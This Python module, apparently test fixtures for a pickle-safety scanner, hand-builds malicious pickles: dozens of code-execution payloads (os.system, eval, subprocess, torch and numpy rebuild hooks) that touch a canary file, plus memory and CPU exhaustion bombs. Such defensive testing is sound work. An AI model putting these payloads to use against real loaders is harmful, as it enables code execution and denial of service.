"""Pickles that would run code, or take all memory and time, put together by hand.

A pickle is a program for a machine with a stack; each function here gives a piece of
one that leaves one object on it.
"""

from __future__ import annotations

import pickle
import struct
from collections.abc import Iterable
from pathlib import Path

import numpy as np


def text(word: str) -> bytes:
    raw = word.encode()
    return b"X" + struct.pack("<I", len(raw)) + raw


def data(raw: bytes) -> bytes:
    return b"B" + struct.pack("<I", len(raw)) + raw


def number(value: int) -> bytes:
    raw = value.to_bytes(value.bit_length() // 8 + 1, "little", signed=True)
    return b"\x8a" + bytes([len(raw)]) + raw


def named(name: str) -> bytes:
    """A global, such as os.system; the module ends at the last dot, or at a colon."""
    module, _, own = name.rpartition(":" if ":" in name else ".")
    return text(module) + text(own) + b"\x93"


def group(*items: bytes) -> bytes:
    return b"(" + b"".join(items) + b"t"


def table(*pairs: tuple[bytes, bytes]) -> bytes:
    return b"}(" + b"".join(key + value for key, value in pairs) + b"u"


def call(function: str | bytes, *args: bytes) -> bytes:
    found = named(function) if isinstance(function, str) else function
    return found + group(*args) + b"R"


def whole(piece: bytes, protocol: int = 4) -> bytes:
    return b"\x80" + bytes([protocol]) + piece + b"."


def state_dict(*pieces: bytes, wrapper: str | None = None) -> bytes:
    """A pickle of a dict with these objects, and perhaps another around it."""
    inner = table(*((text(f"w{i}"), piece) for i, piece in enumerate(pieces)))
    return whole(inner if wrapper is None else table((text(wrapper), inner)))


def payloads(canary: Path) -> dict[str, bytes]:
    """Objects whose unpickling would make a file, by what they would do it with."""
    path, touch = str(canary), f"touch {canary}"
    code = f"open({path!r}, 'w').close()"
    shell, python = text(touch), text(code)
    nested = data(whole(call("os.system", shell)))
    with_argument = {
        "os.system": shell,
        "posix.system": shell,
        "os.popen": shell,
        "os.mkdir": text(path),
        "subprocess.getoutput": shell,
        "commands.getoutput": shell,
        "builtins.eval": python,
        "builtins.exec": python,
        "__builtin__.eval": python,
        "builtins.__import__": text("canary_module"),
        "builtins.print": python,
        "importlib.import_module": text("canary_module"),
        "pydoc.locate": text("canary_module.x"),
        "timeit.timeit": python,
        "cProfile.run": python,
        "pdb.run": python,
        "pickle.loads": nested,
        "_pickle.loads": nested,
        "torch.storage._load_from_bytes": nested,
        "marshal.loads": nested,
        "numpy.load": text(path),
        "torch.load": text(path),
        "torch.jit.load": text(path),
        "torch.hub.load": text(path),
        "numpy.testing._private.utils.runstring": python,
        "numpy.f2py.crackfortran.getlincoef": python,
        "logging.FileHandler": text(path),
        "ctypes.CDLL": text(path),
        "pty.spawn": shell,
        "mmengine.config.Config.fromfile": text(path),
        "mmengine.utils.misc.import_modules_from_strings": text("canary_module"),
        "shutil.rmtree": text(path),
        "webbrowser.open": text(path),
        "builtins.open": text(path),
        "operator.attrgetter": text("system"),
        "copyreg._reconstructor": shell,
        "collections.OrderedDict.__init__": shell,
        "collections.abc.os.system": shell,
        "collections:OrderedDict.fromkeys": shell,
        "canary_module.x": shell,
        "torch.serialization:os.system": shell,
        "mim_plugins.checkpoints.files.reading:os.system": shell,
        "argparse:_sys.modules": shell,
        "torch.utils.data.datapipes.utils.decoder.basichandlers": shell,
        "torch._dynamo.guards:GuardBuilder.get": python,
        "torch.distributed.rpc.internal:_run_function": nested,
    }
    found = {name: call(name, arg) for name, arg in with_argument.items()}
    system = named("os.system")
    return found | {
        "functools.partial": call(call("functools.partial", system, shell)),
        "operator.methodcaller": call(
            call("operator.methodcaller", text("system"), shell), named("os.path")
        ),
        "getattr of a namespace": call(
            call(
                "builtins.getattr",
                call("builtins.getattr", named("argparse.Namespace"), text("__init__")),
                text("__globals__"),
            ),
            shell,
        ),
        "getattr of os": call(
            call("builtins.getattr", named("os.path"), text("system")), shell
        ),
        "an old instance": b"(" + shell + b"ios\nsystem\n",
        "an old object": b"(" + system + shell + b"o",
        "a new object": named("subprocess.Popen") + group(shell) + b"\x81",
        "a new object with keywords": (
            named("subprocess.Popen") + group(shell) + table() + b"\x92"
        ),
        "an old global": b"cos\nsystem\n" + group(shell) + b"R",
        "an extension": b"\x82\x01" + group(shell) + b"R",
        "a map": call("builtins.list", call("builtins.map", system, group(shell))),
        "reduced by its state": (
            named("argparse.Namespace")
            + b")\x81"
            + table((text("__setstate__"), system))
            + b"b"
            + shell
            + b"b"
        ),
        "a class with a method": named("argparse.Namespace")
        + table((text("__setstate__"), system))
        + b"b",
        "slots of a class": named("argparse.Namespace")
        + b"N"
        + table((text("__call__"), system))
        + b"\x86b",
        "a dict with a method": call("collections.OrderedDict")
        + table((text("items"), system))
        + b"b",
        "a log with a method": named("mmengine.logging.history_buffer.HistoryBuffer")
        + b")\x81"
        + table((text("_statistics_methods"), table((text("mean"), system))))
        + b"b",
        "a tensor of odd arguments": call(
            "torch._utils._rebuild_tensor_v2", system, shell, shell, shell, b"N", b"N"
        ),
        "a tensor with hooks": call(
            "torch._utils._rebuild_tensor_v2",
            b"N",
            b"K\0",
            group(),
            group(),
            b"\x89",
            call("collections.OrderedDict", b"](" + group(text("a"), system) + b"e"),
        ),
        "a parameter that is a function": call(
            "torch._utils._rebuild_parameter", system, b"\x88", table()
        ),
        "a type of tensor": call(
            "torch._tensor._rebuild_from_type_v2",
            system,
            named("torch.Tensor"),
            group(shell),
            b"N",
        ),
        "a wrapper of a tensor": call(
            "torch._utils._rebuild_wrapper_subclass", system, shell
        ),
        "an array of a class": call(
            "numpy.core.multiarray._reconstruct",
            named("subprocess.Popen"),
            group(b"K\0"),
            data(b"b"),
        ),
        "an array with a state": call(
            "numpy.core.multiarray._reconstruct",
            named("numpy.ndarray"),
            group(b"K\0"),
            data(b"b"),
        )
        + group(b"K\1", group(b"K\1"), call("os.system", shell), b"\x89", nested)
        + b"b",
        "an array of objects": pickle.dumps(np.array([{}], dtype=object), 2)[2:-1],
        "a dtype of its own": call("numpy.dtype", text("O8"), b"\x89", b"\x88")
        + group(b"K\3", text("|"), b"NNN", b"J\xff\xff\xff\xff" * 2, b"K\x3f")
        + b"b",
        "something persistent": group(text("module"), system, shell, shell) + b"Q",
        "something persistent by name": b"P" + touch.encode() + b"\n",
        "a key": table((call("os.system", shell), b"N")),
        "an item": b"](" + call("os.system", shell) + b"e",
        "in a set": b"\x8f(" + call("os.system", shell) + b"\x90",
        "a counter": call(
            "collections.Counter", table((text("a"), call("os.system", shell)))
        ),
        "an encoding": call("_codecs.encode", shell, text("rot13")),
    }


def nest(first: bytes, wrap: tuple[bytes, bytes], depth: int) -> bytes:
    """An object in an object in an object ..."""
    return wrap[0] * depth + first + wrap[1] * depth


def shared(kind: str, depth: int) -> bytes:
    """Two of a thing of two of a thing of ..., which is endless when written out."""
    pieces = [text("x") + b"q\0"]
    for level in range(depth):
        get, put = b"h" + bytes([level]), b"q" + bytes([level + 1])
        two = {
            "tuple": get + get + b"\x86",
            "list": b"](" + get + get + b"e",
            "dict": table((text("a"), get), (text("b"), get)),
        }[kind]
        pieces.append(b"0" + two + put)
    return b"".join(pieces)


def array_of(raw: bytes, length: bytes, dtype: bytes = text("u1")) -> bytes:
    """An array of numpy's of so many bytes, or what its pickle says instead."""
    empty = call(
        "numpy.core.multiarray._reconstruct",
        named("numpy.ndarray"),
        group(b"K\0"),
        data(b"b"),
    )
    kind = call("numpy.dtype", dtype, b"\x89", b"\x88")
    return empty + group(b"K\1", group(length), kind, b"\x89", raw) + b"b"


def bombs() -> dict[str, bytes]:
    """Objects of few bytes that grow without end, or take for ever."""
    million = data(bytes(1 << 20)) + b"q\7"
    colliding: Iterable[bytes] = (number(i * ((1 << 61) - 1)) for i in range(1, 40000))
    items = b"](" + b"N" * 100000 + b"eq\7"
    return {
        "deep lists": nest(b"N", (b"](", b"e"), 20000),
        "deep tuples": nest(b"N", (b"", b"\x85"), 200000),
        "deep keys": table((nest(b"N", (b"", b"\x85"), 200000), b"N")),
        "deep dicts": nest(b"N", (b"}" + text("a"), b"s"), 5000),
        "shared tuples": shared("tuple", 60),
        "shared lists": shared("list", 60),
        "shared dicts": shared("dict", 60),
        "a key of shared tuples": table((shared("tuple", 60), b"N")),
        "a set of shared tuples": b"\x8f(" + shared("tuple", 60) + b"\x90",
        "a frozen set of them": b"(" + shared("tuple", 60) + b"\x91",
        "a dict of them": b"(" + shared("tuple", 60) + b"N" + b"d",
        "an ordered dict of them": call(
            "collections.OrderedDict", b"](" + shared("tuple", 60) + b"N\x86e"
        ),
        "set of a list of them": call(
            "builtins.set", b"](" + shared("tuple", 60) + b"e"
        ),
        "a path of them": call("pathlib.PosixPath", shared("tuple", 60)),
        "a dtype of them": array_of(data(b"a"), b"K\1", shared("tuple", 60)),
        "an encoding of them": call("_codecs.encode", text("a"), shared("tuple", 60)),
        "a shape of them": call(
            "torch._utils._rebuild_tensor_v2",
            b"N",
            b"K\0",
            shared("tuple", 60),
            shared("tuple", 60),
            b"\x89",
            b"N",
        ),
        "keys that hash alike": table(*((key, b"N") for key in colliding)),
        "bytes without end": b"\x8e" + struct.pack("<Q", 1 << 40),
        "bytes of gigabytes": b"B" + struct.pack("<I", (1 << 32) - 1),
        "a bytearray without end": b"\x96" + struct.pack("<Q", 1 << 36),
        "text without end": b"\x8d" + struct.pack("<Q", 1 << 40),
        "a frame without end": b"\x95" + struct.pack("<Q", 1 << 60),
        "a frame of gigabytes": b"\x95" + struct.pack("<Q", 1 << 36),
        "a number without end": b"\x8b" + struct.pack("<i", (1 << 31) - 1),
        "a place far off": b"Nr" + struct.pack("<I", (1 << 31) - 1),
        "digits": b"L" + b"9" * 500000 + b"L\n",
        "empty lists": b"](" + b"]" * 1500000 + b"e",
        "many keys": table(*((text(f"{i:x}"), b"N") for i in range(600000))),
        "a long key": table((text("k" * 100000), b"N")),
        "bytes again and again": million
        + b"0]("
        + array_of(b"h\7", number(1 << 20)) * 5000
        + b"e",
        "tuples of a list": items
        + b"0]("
        + (named("builtins.tuple") + b"h\7\x85R") * 5000
        + b"e",
        "sets of a list": items
        + b"0]("
        + (named("builtins.set") + b"h\7\x85R") * 5000
        + b"e",
        "encoded again and again": text("a" * (1 << 20))
        + b"q\7"
        + b"0]("
        + (named("_codecs.encode") + b"h\7" + text("latin1") + b"\x86R") * 5000
        + b"e",
        "an array of a shape without end": array_of(data(b"aaaaaaaa"), number(1 << 60)),
        "an array of great numbers": array_of(
            data(b"a"), (b"\x8b" + struct.pack("<i", 1000) + b"\x7f" * 1000) * 3000
        ),
    }
